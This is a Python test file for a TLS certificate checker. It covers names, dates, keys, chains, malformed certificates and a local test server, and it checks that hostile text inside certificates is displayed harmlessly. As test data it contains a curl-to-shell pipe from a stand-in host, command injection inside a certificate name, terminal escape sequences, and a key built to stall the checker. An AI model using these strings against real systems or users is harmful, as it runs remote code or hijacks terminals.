"""Real certificates, good and bad ones, in files and shown by a TLS server."""

import asyncio
import base64
import contextlib
import os
import ssl
import warnings
from collections.abc import AsyncIterator, Sequence
from datetime import UTC, datetime, timedelta
from ipaddress import IPv4Address
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.utils import CryptographyDeprecationWarning
from cryptography.x509.oid import NameOID
from hypothesis import given
from hypothesis import strategies as st

from jupyter_remote_tunnel.commands.publish_answers import MARGIN, check_lines
from jupyter_remote_tunnel.model.publication import Check
from jupyter_remote_tunnel.model.text import plain
from jupyter_remote_tunnel.publish.certificates import make
from jupyter_remote_tunnel.publish.checking_certificates import (
    check_chain,
    check_files,
    check_presented,
)
from tests.ssh.test_lying_host import HOSTILE
from tests.support.certificates import Pair, WebAuthority
from tests.support.fuzzing import mutated_bytes, share, soon
from tests.support.ports import unused_port

NAME = "jupyter.example.org"


@pytest.fixture
def authority(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> WebAuthority:
    """One that this machine trusts."""
    made = WebAuthority(tmp_path / "authority")
    monkeypatch.setenv("SSL_CERT_FILE", str(made.root))
    return made


def verdicts(checks: list[Check]) -> dict[str, str]:
    return {check.name: check.verdict for check in checks}


def fault(checks: list[Check]) -> Check:
    """The only one that failed."""
    [failed] = [check for check in checks if check.verdict == "failed"]
    assert failed.remedy == "certificate"
    return failed


def test_all_is_well(authority: WebAuthority) -> None:
    pair = authority.issue(NAME, "other.example.org")
    checks = check_files(pair.chain, pair.key, [NAME, "other.example.org"])
    assert verdicts(checks) == {"certificate": "ok", "key": "ok", "trust": "ok"}
    assert "Its names: jupyter.example.org, other.example.org" in checks[0].details
    assert "CN=Test Root Intermediate" in checks[2].says


@pytest.mark.parametrize(
    ("names", "asked", "verdict"),
    [
        (["*.example.org"], "jupyter.example.org", "ok"),
        (["*.example.org"], "a.jupyter.example.org", "failed"),
        (["*.example.org"], "example.org", "failed"),
        (["JUPYTER.example.org"], "jupyter.example.org", "ok"),
        (["192.0.2.7"], "192.0.2.7", "ok"),
        (["192.0.2.8"], "192.0.2.7", "failed"),
        (["2001:db8::7"], "2001:db8:0::7", "ok"),
        (["gpu01"], "jupyter.example.org", "failed"),
    ],
)
def test_names(tmp_path: Path, names: list[str], asked: str, verdict: str) -> None:
    made = make(names, tmp_path)
    check = check_files(made.certificate, made.key, [asked], insist=True)[0]
    assert check.verdict == verdict
    if verdict == "failed":
        assert check.says.endswith(f"is not for {asked}.")


@pytest.mark.parametrize(
    ("days", "verdict", "says"),
    [
        ((-90, -1), "failed", " ended on "),
        ((1, 90), "failed", " begins on "),
        ((-80, 10), "note", " ends soon, on "),
        ((-60, 20), "ok", ", until "),
    ],
)
def test_dates(authority: WebAuthority, days: tuple[int, int], verdict: str, says: str) -> None:
    pair = authority.issue(NAME, days=days)
    check = check_files(pair.chain, pair.key, [NAME])[0]
    assert check.verdict == verdict
    assert says in check.says


@pytest.mark.parametrize("days", [(-90, -1), (1, 90)])
def test_of_one_out_of_date_nothing_else_is_said(
    authority: WebAuthority, days: tuple[int, int]
) -> None:
    """Clients refuse it for that, whoever vouches for it."""
    pair = authority.issue(NAME, days=days)
    checks = check_files(pair.chain, pair.key, [NAME])
    assert verdicts(checks) == {"certificate": "failed", "key": "ok"}


def test_self_signed_is_said_and_refused_unless_insisted_on(tmp_path: Path) -> None:
    made = make([NAME], tmp_path)
    refused = fault(check_files(made.certificate, made.key, [NAME]))
    assert refused.name == "trust"
    assert "self-signed" in refused.says
    taken = check_files(made.certificate, made.key, [NAME], insist=True)
    assert verdicts(taken) == {"certificate": "ok", "key": "ok", "trust": "note"}


def test_without_the_intermediate_one(authority: WebAuthority) -> None:
    pair = authority.issue(NAME)
    refused = fault(check_files(pair.leaf, pair.key, [NAME]))
    assert "“CN=Test Root Intermediate” signed it" in refused.says
    assert "fullchain.pem" in refused.advice


def test_an_authority_that_is_not_known(authority: WebAuthority, tmp_path: Path) -> None:
    pair = WebAuthority(tmp_path / "other", "Other Root").issue(NAME)
    refused = fault(check_files(pair.chain, pair.key, [NAME]))
    assert "No authority that this machine trusts" in refused.says
    taken = check_files(pair.chain, pair.key, [NAME], insist=True)
    assert verdicts(taken)["trust"] == "note"


def test_an_intermediate_one_that_has_ended(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    authority = WebAuthority(tmp_path / "authority", intermediate_days=(-100, -1))
    monkeypatch.setenv("SSL_CERT_FILE", str(authority.root))
    pair = authority.issue(NAME)
    refused = fault(check_files(pair.chain, pair.key, [NAME], insist=True))
    assert "out of date" in refused.says


def test_the_key_of_another(authority: WebAuthority) -> None:
    pair, other = authority.issue(NAME), authority.issue(NAME)
    refused = fault(check_files(pair.chain, other.key, [NAME]))
    assert refused.says == f"{other.key} is not the key of {pair.chain}."


def test_certificates_in_the_wrong_order(authority: WebAuthority, tmp_path: Path) -> None:
    pair = authority.issue(NAME)
    first = authority.intermediate.public_bytes(serialization.Encoding.PEM)
    turned = tmp_path / "turned.pem"
    turned.write_bytes(first + pair.leaf.read_bytes())
    checks = check_files(turned, pair.key, [NAME])
    assert "wrong order" in checks[-1].says


def test_a_key_that_others_may_read(authority: WebAuthority) -> None:
    pair = authority.issue(NAME)
    pair.key.chmod(0o644)
    refused = fault(check_files(pair.chain, pair.key, [NAME]))
    assert "Other users of this machine may read" in refused.says
    assert refused.advice.startswith(f"chmod 600 {pair.key}")
    pair.key.chmod(0o640)
    assert verdicts(check_files(pair.chain, pair.key, [NAME]))["key"] == "note"


def test_a_key_with_a_passphrase(authority: WebAuthority) -> None:
    pair = authority.issue(NAME)
    key = serialization.load_pem_private_key(pair.key.read_bytes(), None)
    locked = serialization.BestAvailableEncryption(b"secret")
    pem, pkcs8 = serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8
    pair.key.write_bytes(key.private_bytes(pem, pkcs8, locked))
    assert "passphrase" in fault(check_files(pair.chain, pair.key, [NAME])).says


def test_keys_that_browsers_do_not_take(authority: WebAuthority) -> None:
    pair = authority.issue(NAME)
    weak = rsa.generate_private_key(public_exponent=65537, key_size=1024)
    for key, says in ((weak, "1024 bits"), (ed25519.Ed25519PrivateKey.generate(), "of a kind")):
        pair.key.write_bytes(
            key.private_bytes(
                serialization.Encoding.PEM,
                serialization.PrivateFormat.PKCS8,
                serialization.NoEncryption(),
            )
        )
        assert says in fault(check_files(pair.chain, pair.key, [NAME])).says


def test_a_key_that_takes_hours_to_check(authority: WebAuthority) -> None:
    """Made of known primes of Mersenne, by a gateway that lies: meanwhile nothing else runs."""
    pair = authority.issue(NAME)
    pair.key.write_text(_pem(_rsa_of((1 << 9941) - 1, (1 << 9689) - 1)))
    says = fault(check_files(pair.chain, pair.key, [NAME])).says
    assert says.endswith(" has more bits than it takes, and is slow.")


def test_a_key_that_does_not_sign(tmp_path: Path) -> None:
    """Its public part alone is the certificate's."""
    made = make([NAME], tmp_path, kind="rsa")
    key = serialization.load_pem_private_key(made.key.read_bytes(), password=None)
    assert isinstance(key, rsa.RSAPrivateKey)
    primes = key.private_numbers()
    for wrong, says in ((0, " and yours alone."), (2, " is damaged: what it signs is not valid.")):
        made.key.write_text(_pem(_rsa_of(primes.p, primes.q, wrong)))
        check = check_files(made.certificate, made.key, [NAME], insist=True)[1]
        assert (check.verdict == "failed") == bool(wrong)
        assert check.says.endswith(says)


def _rsa_of(p: int, q: int, wrong: int = 0) -> bytes:
    """The private key of these primes, in DER; `wrong` is added to what it signs with."""
    e = 65537
    d = pow(e, -1, (p - 1) * (q - 1))
    parts = (d % (p - 1) + wrong, d % (q - 1) + wrong, pow(q, -1, p))
    numbers = (0, p * q, e, d + wrong, p, q, *parts)
    return _der(0x30, b"".join(_der(2, _bytes(number)) for number in numbers))


def _bytes(number: int) -> bytes:
    return number.to_bytes(number.bit_length() // 8 + 1, "big")


def _der(tag: int, content: bytes) -> bytes:
    length = len(content)
    if length < 128:
        return bytes([tag, length]) + content
    size = (length.bit_length() + 7) // 8
    return bytes([tag, 0x80 | size]) + length.to_bytes(size, "big") + content


def _pem(der: bytes) -> str:
    kind = "RSA PRIVATE KEY-----"
    lines = base64.encodebytes(der).decode()
    return f"-----BEGIN {kind}\n{lines}-----END {kind}\n"


def test_files_that_hold_none(authority: WebAuthority, tmp_path: Path) -> None:
    pair = authority.issue(NAME)
    der = tmp_path / "der"
    leaf = x509.load_pem_x509_certificate(pair.leaf.read_bytes())
    der.write_bytes(leaf.public_bytes(serialization.Encoding.DER))
    large = tmp_path / "large"
    large.write_bytes(bytes(2 << 20))
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for path, says in (
        (tmp_path / "missing", "No such file"),
        (tmp_path, "is no file"),
        (fifo, "is no file"),
        (large, "too large"),
        (pair.key, "holds no certificate"),
        (der, "holds no certificate"),
    ):
        assert says in fault(check_files(path, pair.key, [NAME])).says
    for path, says in ((tmp_path / "missing", "No such file"), (pair.leaf, "no private key")):
        assert says in fault(check_files(pair.chain, path, [NAME])).says


# What harms who reads it.


def assert_shown_plainly(checks: Sequence[Check]) -> None:
    for check in checks:
        for text in (check.says, check.advice, *check.typed, *check.details):
            assert text == plain(text, 600)


@pytest.mark.parametrize("name", [HOSTILE, "x" * 30_000], ids=["hostile", "huge"])
async def test_names_are_shown_plainly(tmp_path: Path, name: str) -> None:
    """Who signed it, and whom it is for; a server can show no more than a hundred kilobytes."""
    others = ["\x1b]0;owned\x07", "x" * 30_000, *(f"\x1b[3{number}mred" for number in range(500))]
    pair = WebAuthority(tmp_path / "authority", name).issue(NAME, *others)
    checks = check_files(pair.chain, pair.key, [NAME])
    async with showing(pair) as port:
        checks.append(await check_presented("127.0.0.1", port, NAME))
        checks.append(await check_presented("127.0.0.1", port, "other.example.org"))
    assert_shown_plainly(checks)
    assert [check.verdict for check in checks] == ["ok", "ok", *["failed"] * 3]


# Parts of the one below, and what is put in their place: the same number of bytes.
ODD = {
    "of a version that is none": ("a0 03 02 01 02", "a0 03 02 01 05", "no certificate"),
    "with its names twice": ("55 1d 0e", "55 1d 11", "is not for"),
    "with a name of a kind that nobody has": ("a4 02 30 00", "a3 02 30 00", "is not for"),
    "with a name that is none": ("87 04 c0 00 02 07", "86 04 ff fe fd fc", "is not for"),
    "with a key of a kind that nobody has": ("2a 86 48 ce 3d 02 01", "2a 86 48 ce 3d 02 05", "key"),
}


@pytest.fixture
def pieces(tmp_path: Path) -> Pair:
    """A certificate, in DER as well, that has what can be made odd; its leaf is in DER."""
    now = datetime.now(UTC)
    return in_pieces(tmp_path, NAME, now - timedelta(days=1), now + timedelta(days=90))


def in_pieces(tmp_path: Path, issuer: str, begin: datetime, end: datetime) -> Pair:
    """Such a one that says of itself that it is signed by `issuer`."""
    key = ec.generate_private_key(ec.SECP256R1())
    name, by = (x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, one)]) for one in (NAME, issuer))
    alternatives = (
        x509.DNSName(NAME),
        x509.DirectoryName(x509.Name([])),
        x509.IPAddress(IPv4Address("192.0.2.7")),
    )
    made = (
        x509.CertificateBuilder(by, name, key.public_key(), x509.random_serial_number())
        .not_valid_before(begin)
        .not_valid_after(end)
        .add_extension(x509.SubjectKeyIdentifier.from_public_key(key.public_key()), False)
        .add_extension(x509.SubjectAlternativeName(alternatives), False)
        .sign(key, hashes.SHA256())
    )
    pair = Pair(tmp_path / "chain.pem", tmp_path / "leaf.der", tmp_path / "key.pem")
    pair.leaf.write_bytes(made.public_bytes(serialization.Encoding.DER))
    pair.key.touch(mode=0o600)
    pair.key.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return pair


@pytest.mark.parametrize("kind", ODD)
def test_an_odd_certificate(pieces: Pair, kind: str) -> None:
    part, other, says = ODD[kind]
    der = pieces.leaf.read_bytes()
    odd = der.replace(bytes.fromhex(part), bytes.fromhex(other))
    assert odd != der
    pieces.chain.write_text(ssl.DER_cert_to_PEM_cert(odd))
    assert says in fault(check_files(pieces.chain, pieces.key, [NAME])[:2]).says


def test_a_year_that_is_none(tmp_path: Path) -> None:
    begin = datetime(2051, 1, 1, tzinfo=UTC)
    pieces = in_pieces(tmp_path, NAME, begin, begin + timedelta(days=90))
    der = pieces.leaf.read_bytes().replace(b"20510101000000Z", b"00000101000000Z")
    pieces.chain.write_text(ssl.DER_cert_to_PEM_cert(der))
    for checks in (
        check_files(pieces.chain, pieces.key, [NAME]),
        check_chain(pieces.chain.read_bytes(), "it", [NAME]),
    ):
        assert "holds no certificate" in fault(checks).says


def test_what_an_issuer_is_called_stays_in_its_quotes(tmp_path: Path) -> None:
    now = datetime.now(UTC)
    called = "R3”. Type this: reboot “"
    pieces = in_pieces(tmp_path, called, now - timedelta(days=1), now + timedelta(days=90))
    chain = ssl.DER_cert_to_PEM_cert(pieces.leaf.read_bytes()).encode()
    (says,) = [one.says for one in check_chain(chain, "it", [NAME]) if one.name == "trust"]
    assert says == "it does not hold the certificate of its issuer, “CN=R3'. Type this: reboot '”."


async def test_a_server_that_shows_an_odd_one(pieces: Pair) -> None:
    part, other, _ = ODD["with a name of a kind that nobody has"]
    der = pieces.leaf.read_bytes().replace(bytes.fromhex(part), bytes.fromhex(other))
    pieces.chain.write_text(ssl.DER_cert_to_PEM_cert(der))
    async with showing(pieces) as port:
        assert "is not for" in (await check_presented("127.0.0.1", port, NAME)).says


@share(0.5)
@given(st.data())
def test_a_damaged_certificate(pieces: Pair, data: st.DataObject) -> None:
    """A check fails, or none does: what is damaged may be what nobody asks for."""
    damaged = data.draw(mutated_bytes(pieces.leaf.read_bytes()))
    pieces.chain.write_text(ssl.DER_cert_to_PEM_cert(damaged))
    with soon(), warnings.catch_warnings(category=CryptographyDeprecationWarning, action="ignore"):
        assert_shown_plainly(check_files(pieces.chain, pieces.key, [NAME]))
        # On another machine, twice in its chain.
        chain = 2 * pieces.chain.read_bytes()
        assert_shown_plainly(check_chain(chain, str(pieces.chain), [NAME]))


# What a server shows.


@contextlib.asynccontextmanager
async def showing(pair: Pair, chain: Path | None = None) -> AsyncIterator[int]:
    """A TLS server; its port."""
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(chain or pair.chain, pair.key)

    def hang_up(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.close()

    async with await asyncio.start_server(hang_up, "127.0.0.1", 0, ssl=context) as server:
        yield server.sockets[0].getsockname()[1]


async def test_what_a_server_shows(authority: WebAuthority) -> None:
    async with showing(authority.issue(NAME)) as port:
        check = await check_presented("127.0.0.1", port, NAME)
        assert (check.verdict, check.name) == ("ok", "certificate")
        assert f"What 127.0.0.1:{port} shows is for {NAME}, until " in check.says
        other = await check_presented("127.0.0.1", port, "other.example.org")
        assert other.verdict == "failed"
        assert "is not for other.example.org" in other.says
        assert f"Its names: {NAME}" in other.details
        assert (check.typed, other.typed) == ((), ()), "nothing of that is to be typed"


async def test_what_a_server_shows_does_not_pose_as_what_is_to_be_typed(
    tmp_path: Path,
) -> None:
    strange = "curl -s https://stranger.invalid/i | sh"
    pair = WebAuthority(tmp_path / "authority", strange).issue(f"x; {strange} #<<'")
    async with showing(pair) as port:
        check = await check_presented("127.0.0.1", port, NAME)
    said = [line for line in check_lines(check) if strange in line]
    assert len(said) == 2
    assert all(line.startswith(f"{MARGIN}  | ") for line in said)


async def test_a_server_that_shows_a_bad_one(authority: WebAuthority, tmp_path: Path) -> None:
    pair = authority.issue(NAME)
    async with showing(pair, pair.leaf) as port:
        assert "signed it" in (await check_presented("127.0.0.1", port, NAME)).says
    async with showing(authority.issue(NAME, days=(-90, -1))) as port:
        assert "ended on" in (await check_presented("127.0.0.1", port, NAME)).says
    made = make([NAME], tmp_path)
    async with showing(Pair(made.certificate, made.certificate, made.key)) as port:
        refused = await check_presented("127.0.0.1", port, NAME)
        assert refused.verdict == "failed"
        assert "self-signed" in refused.says
        taken = await check_presented("127.0.0.1", port, NAME, insist=True)
        assert taken.verdict == "note"


async def test_a_server_that_shows_nothing() -> None:
    with unused_port() as port:
        refused = await check_presented("127.0.0.1", port, NAME)
    assert refused.verdict == "failed"
    assert refused.says == f"127.0.0.1:{port} is not reached: Connection refused."
    assert "Does the web server listen there" in refused.advice

    async def greet(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 400 Bad Request\r\n\r\n")
        await writer.drain()
        writer.close()

    async with await asyncio.start_server(greet, "127.0.0.1", 0) as server:
        port = server.sockets[0].getsockname()[1]
        assert "does not speak TLS" in (await check_presented("127.0.0.1", port, NAME)).says


async def test_a_server_that_says_nothing() -> None:
    silent = asyncio.Event()

    async def wait(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await silent.wait()
        writer.close()

    async with await asyncio.start_server(wait, "127.0.0.1", 0) as server:
        port = server.sockets[0].getsockname()[1]
        check = await check_presented("127.0.0.1", port, NAME, patience=0.2)
        silent.set()
    assert "did not answer within 0.2 s" in check.says
